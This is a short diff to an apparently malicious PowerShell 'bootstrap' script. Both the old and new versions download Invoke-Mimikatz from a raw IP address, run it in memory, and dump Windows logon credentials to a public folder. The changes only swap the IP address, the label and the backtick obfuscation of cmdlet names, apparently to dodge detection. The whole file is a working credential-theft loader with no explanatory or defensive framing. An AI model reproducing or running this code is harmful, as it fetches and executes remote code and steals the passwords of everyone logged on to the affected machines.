@@ -1,3 +1,3 @@
-# bootstrap 4289 v2
-IEX (Ne`w-Ob`je`ct Net.`WebC`l`ient).DownloadString('http://198.51.100.23/Invoke-Mimikatz.ps1')
-Inv`oke-M`i`mi`katz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-F`i`le C:\Users\Public\o.txt
+# init 4090 v2
+IEX (Ne`w-Ob`je`ct Net.`WebClient).DownloadString('http://203.0.113.200/Invoke-Mimikatz.ps1')
+Invo`ke-`M`imi`katz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-F`ile C:\Users\Public\o.txt
